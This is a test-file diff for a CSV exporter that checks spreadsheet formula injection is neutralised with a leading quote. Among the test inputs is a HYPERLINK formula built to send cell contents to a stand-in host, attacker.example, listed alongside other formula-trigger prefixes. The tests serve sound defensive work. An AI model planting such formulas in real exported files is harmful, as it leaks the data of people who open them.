@@ -122,3 +122,19 @@ describe('leaderboardCsv', () => {
     ]);
   });
 });
+
+describe('toCsv and spreadsheet formulas', () => {
+  it.each(['=HYPERLINK("http://attacker.example/?leak="&A2,"x")', '+1+1', '-2+3', '@SUM(A1)', '\tx', '\rx'])(
+    'writes the text %j with a leading quote, so it is not a formula',
+    (text) => {
+      const [, row] = parseCsv(toCsv(['cell'], [[text]]));
+      expect(row).toEqual([`'${text}`]);
+    },
+  );
+
+  it('leaves numbers, including negative ones, and ordinary text as they are', () => {
+    expect(toCsv(['a', 'b', 'c', 'd'], [[-12.5, 'AAPL:10 MSFT:5', '2025-10-01', 'a=b']])).toBe(
+      'a,b,c,d\r\n-12.5,AAPL:10 MSFT:5,2025-10-01,a=b\r\n',
+    );
+  });
+});
